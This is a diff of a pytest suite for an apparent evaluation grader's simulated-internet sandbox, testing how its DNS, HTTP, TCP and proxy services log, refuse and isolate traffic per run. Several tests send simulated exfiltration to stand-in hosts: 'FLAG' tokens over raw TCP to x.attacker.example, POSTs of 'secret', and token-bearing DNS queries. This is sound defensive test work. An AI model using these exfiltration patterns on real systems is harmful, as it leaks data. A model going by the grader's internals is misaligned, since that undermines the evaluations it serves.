@@ -23,7 +23,8 @@ from typing import Any, Callable, Iterator
 
 import pytest
 
-from grader.services import common, dnswire, proxy
+from grader.services import common, dnswire, proxy, wire
+import fakewire
 
 SERVICES = Path(__file__).resolve().parents[2] / "grader" / "services"
 HOSTS = [
@@ -116,7 +117,7 @@ def services(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Services]:
     root = tmp_path_factory.mktemp("services")
     opt = root / "opt"  # stands in for /opt/sandbox-lab/ in the image
     opt.mkdir()
-    for name in ("internet.py", "proxy.py", "common.py", "dnswire.py"):
+    for name in ("internet.py", "proxy.py", "common.py", "dnswire.py", "wire.py"):
         shutil.copy(SERVICES / name, opt / name)
     shutil.copy(SERVICES.parent / "domains.py", opt / "domains.py")
     dns, http, https, tcp, proxy_port = _free_ports(5)
@@ -145,11 +146,18 @@ def services(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Services]:
             _stop(proc)
 
 
+_KINDS = {"http.jsonl": wire.HttpRecord, "dns.jsonl": wire.DnsRecord, "tcp.jsonl": wire.TcpRecord, "proxy.jsonl": wire.ProxyRecord}
+
+
 def _records(path: Path) -> list[dict[str, Any]]:
+    """Every whole line of a service's log, each checked to be a record of its log's kind (as the grader reads it)."""
     if not path.exists():
         return []
     text = path.read_text(encoding="utf-8")
-    return [json.loads(line) for line in text.splitlines(keepends=True) if line.endswith("\n")]
+    lines = [line for line in text.splitlines(keepends=True) if line.endswith("\n")]
+    for line in lines:
+        wire.parse_record(_KINDS[path.name], line, path.name, skip=("seq",))
+    return [json.loads(line) for line in lines]
 
 
 def _wait_for(path: Path, match: Callable[[dict[str, Any]], bool], timeout: float = 3.0) -> dict[str, Any]:
@@ -646,7 +654,7 @@ def test_a_tls_name_of_another_server_is_refused_inside_a_tunnel(fail_closed: Se
         with sock, pytest.raises(ssl.SSLError):
             _tls_exchange(sock, fail_closed.internet_out / "ca.pem", sni, _post(sni, "/upload/x", "secret"))
         record = _wait_for(fail_closed.internet_out / "http.jsonl", lambda r: r.get("misdirected") == sni)
-        assert (record["host"], record["stage"]) == ("pypi.org", "tls") and "body" not in record
+        assert (record["host"], record["stage"]) == ("pypi.org", "tls") and record["body"] == "" and record["body_len"] == 0
     delivered = [r for r in _records(fail_closed.internet_out / "http.jsonl") if r.get("body") == "secret"]
     assert delivered == []
 
@@ -660,7 +668,7 @@ def test_a_host_header_of_another_server_gets_421_and_nothing_is_delivered(fail_
     assert response.startswith(b"HTTP/1.1 421"), response
     record = _wait_for(fail_closed.internet_out / "http.jsonl", lambda r: token in str(r.get("path")))
     assert (record["host"], record["misdirected"], record["stage"]) == ("pypi.org", "upload.pypi.org", "http")
-    assert "body" not in record
+    assert record["body"] == "" and record["body_len"] == 0
     assert not [r for r in _records(fail_closed.internet_out / "http.jsonl") if token in str(r.get("body", ""))]
 
 
@@ -697,7 +705,7 @@ def test_a_direct_connection_reaches_the_shared_address_which_answers_any_name(f
         response = _tls_exchange(raw, fail_closed.internet_out / "ca.pem", "pypi.org", _post("upload.pypi.org", f"/d/{token}", token))
     assert response.startswith(b"HTTP/1.1 200")
     record = _wait_for(fail_closed.internet_out / "http.jsonl", lambda r: token in str(r.get("path")))
-    assert record["host"] == "upload.pypi.org" and "via" not in record
+    assert record["host"] == "upload.pypi.org" and record["via"] is None
 
 
 def test_the_proxy_dials_nothing_but_the_simulated_internet(fail_closed: Services, tmp_path: Path) -> None:
@@ -836,14 +844,14 @@ def test_the_raw_listener_refuses_a_tunnel_to_any_host_but_the_attackers(service
     for name in ("registry.npmjs.org", "pypi.org", "gist.github.com"):
         assert _send_refusable(services.tcp, common.target_line(name) + f"FLAG {token}\n".encode()) == b""  # no "ok"
         record = _wait_for(services.internet_out / "tcp.jsonl", lambda r, n=name: r.get("via") == n and "refused" in r)
-        assert f"serves no port {services.tcp}" in record["refused"] and "data" not in record
+        assert f"serves no port {services.tcp}" in record["refused"] and record["data"] == ""
     assert not [r for r in _records(services.internet_out / "tcp.jsonl") if token in str(r.get("data", ""))]
     with socket.create_connection((LOCALHOST, services.tcp), timeout=5) as sock:  # the attacker's own name: served
         sock.sendall(common.target_line("x.attacker.example") + f"FLAG {token}\n".encode())
         sock.shutdown(socket.SHUT_WR)
         assert sock.recv(100) == f"ok {services.nonce}\n".encode()
     record = _wait_for(services.internet_out / "tcp.jsonl", lambda r: token in str(r.get("data", "")))
-    assert record["via"] == "x.attacker.example" and "refused" not in record
+    assert record["via"] == "x.attacker.example" and record.get("refused") is None
 
 
 def test_dns_over_tcp_refuses_a_tunnel_to_any_host_but_the_nameservers(services: Services) -> None:
@@ -853,7 +861,7 @@ def test_dns_over_tcp_refuses_a_tunnel_to_any_host_but_the_nameservers(services:
         sock.sendall(common.target_line("pypi.org"))
         assert _dns_over_tcp(sock, f"{token}.attacker.example") == b""
     record = _wait_for(services.internet_out / "dns.jsonl", lambda r: r.get("via") == "pypi.org")
-    assert f"serves no port {services.dns}" in record["refused"] and "qname" not in record
+    assert f"serves no port {services.dns}" in record["refused"] and record["qname"] == ""
     assert not [r for r in _records(services.internet_out / "dns.jsonl") if token in str(r.get("qname", ""))]
     with socket.create_connection((LOCALHOST, services.dns), timeout=5) as sock:  # to the nameserver's own name
         sock.sendall(common.target_line("attacker.example"))
@@ -868,7 +876,7 @@ def test_an_http_listener_refuses_a_host_that_does_not_serve_its_port(services: 
     request = f"POST /{token} HTTP/1.1\r\nContent-Length: 1\r\n\r\nx".encode()
     assert _send_refusable(services.http, common.target_line("host.docker.internal") + request) == b""
     record = _wait_for(services.internet_out / "http.jsonl", lambda r: r.get("host") == "host.docker.internal" and "refused" in r)
-    assert record["stage"] == "connect" and "body" not in record and record["path"] == ""
+    assert record["stage"] == "connect" and record["body"] == "" and record["path"] == ""
     assert not [r for r in _records(services.internet_out / "http.jsonl") if token in str(r.get("path", ""))]
 
 
@@ -881,7 +889,7 @@ def test_a_direct_connection_carries_no_name_and_is_served_as_before(services: S
         answer = _dns_over_tcp(sock, f"{token}.attacker.example")
     assert dnswire.parse_response(answer[2:]).addresses == (LOCALHOST,)
     record = _wait_for(services.internet_out / "dns.jsonl", lambda r: r.get("qname") == f"{token}.attacker.example")
-    assert "refused" not in record and "via" not in record
+    assert record.get("refused") is None and record.get("via") is None
 
 
 @pytest.mark.parametrize("script, change, says", [
@@ -946,3 +954,99 @@ def test_the_srt_backends_services_serve_the_worlds_ports_on_their_loopback_port
         for p in run.procs:
             _stop(p)
         shutil.rmtree(run.dir.path, ignore_errors=True)
+
+
+# --- each run's evidence is its own, bounded and closed (common.Recorder, backends.runlogs) ------------------
+
+
+def test_a_claimed_clients_records_go_to_its_runs_own_log_closed_with_their_count(services: Services) -> None:
+    from grader.backends.enginedisk import host_files
+    from grader.backends.runlogs import close_run, forget_run, open_run
+    from grader.backends.runs import read_sinks
+
+    out = host_files(services.internet_out)
+    key = "sl-" + uuid.uuid4().hex[:10]
+    open_run(out, key, [LOCALHOST])
+    try:
+        mine = f"/claimed/{key}"
+        _exchange(services.http, f"POST {mine} HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: 2\r\n\r\nhi".encode())
+        texts = close_run(out, key)
+        # after the close, the client is nobody's: its records go to the general log again
+        after = f"/after/{key}"
+        _exchange(services.http, f"GET {after} HTTP/1.1\r\nHost: attacker.example\r\n\r\n".encode())
+        _wait_for(services.internet_out / "http.jsonl", lambda r: r["path"] == after)
+    finally:
+        forget_run(out, key)
+    http, dns, tcp, incomplete = read_sinks(lambda name: texts[name], key)
+    assert [r.path for r in http if r.path.startswith("/claimed/")] == [mine] and not incomplete
+    assert all(r["path"] != mine for r in _records(services.internet_out / "http.jsonl"))  # in the run's log only
+    # the run's files go once the grader is done with them
+    deadline = time.monotonic() + 5
+    while (services.internet_out / "runs" / key).exists() and time.monotonic() < deadline:
+        time.sleep(0.02)
+    assert not (services.internet_out / "runs" / key).exists()
+
+
+def test_a_run_past_its_cap_keeps_what_it_had_and_says_it_lost_the_rest(tmp_path: Path) -> None:
+    from grader.services.common import Recorder
+
+    recorder = Recorder(str(tmp_path), ("http", "dns", "tcp"), cap=2000)
+    (tmp_path / "runs" / "r1.open").write_text(json.dumps({"run": "r1", "clients": ["10.0.0.5"]}))
+    (tmp_path / "runs" / "r2.open").write_text(json.dumps({"run": "r2", "clients": ["10.0.0.6"]}))
+    recorder.poll()
+    assert (tmp_path / "runs" / "r1" / "opened").exists()
+    for i in range(50):  # r1 floods
+        recorder.write("http", fakewire.http("attacker.example", "POST", f"/{i}", "x" * 100, client="10.0.0.5"))
+    recorder.write("http", fakewire.http("gist.github.com", "POST", "/mine", "secret", client="10.0.0.6"))
+    recorder.write("http", fakewire.http("gist.github.com", "POST", "/nobody", "x", client="10.0.0.7"))
+    (tmp_path / "runs" / "r1.close").write_text("")
+    (tmp_path / "runs" / "r2.close").write_text("")
+    recorder.poll()
+    r1, full1 = wire.parse_log(wire.HttpRecord, (tmp_path / "runs" / "r1" / "http.jsonl").read_text(), "http.jsonl", "r1")
+    r2, full2 = wire.parse_log(wire.HttpRecord, (tmp_path / "runs" / "r2" / "http.jsonl").read_text(), "http.jsonl", "r2")
+    assert full1 and 0 < len(r1) < 50 and [r.path for r in r1] == [f"/{i}" for i in range(len(r1))]
+    assert not full2 and [r.path for r in r2] == ["/mine"]  # the flood next door took nothing of it
+    assert [r["path"] for r in _records(tmp_path / "http.jsonl")] == ["/nobody"]  # nobody's: read by no verdict
+    with pytest.raises(wire.WireError, match="another run"):  # one run's log is never read as another's
+        wire.parse_log(wire.HttpRecord, (tmp_path / "runs" / "r1" / "http.jsonl").read_text(), "http.jsonl", "r2")
+
+
+def test_one_client_cannot_take_every_slot() -> None:
+    from grader.services.common import Admission
+
+    refused: list[str] = []
+    admission = Admission(total=10, per_client=4, refused=refused.append)
+    held = [admission.admit("10.0.0.5") for _ in range(6)]
+    assert sum(r is not None for r in held) == 4  # the flood stops at its own limit
+    others = [admission.admit(f"10.0.1.{i}") for i in range(6)]
+    assert sum(r is not None for r in others) == 6  # everyone else still gets in
+    assert admission.admit("10.0.2.1") is None  # the total holds too
+    for release in [*held, *others]:
+        if release is not None:
+            release()
+    assert admission.admit("10.0.0.5") is not None
+
+
+def test_the_heartbeat_beats_while_one_client_holds_every_connection_it_may(services: Services) -> None:
+    """A client holding idle connections up to its limit and past it starves neither the self-check nor others."""
+    from grader.services.internet import MAX_CONNECTIONS
+
+    held = []
+    try:
+        for _ in range(MAX_CONNECTIONS + 20):  # every slot there is, were there no per-client limit
+            try:
+                held.append(socket.create_connection((LOCALHOST, services.http), timeout=2))
+            except OSError:
+                break
+        assert len(held) > MAX_CONNECTIONS
+        # three fresh beats (one may have been under way already); it beats every 0.1 s, and a starved
+        # one waits for the held connections' idle timeout (5 s)
+        deadline = time.monotonic() + 3
+        for _ in range(3):
+            beat = (services.internet_out / "heartbeat").stat().st_mtime
+            while (services.internet_out / "heartbeat").stat().st_mtime <= beat:
+                assert time.monotonic() < deadline, "the heartbeat stopped while one client held its connections"
+                time.sleep(0.02)
+    finally:
+        for sock in held:
+            sock.close()
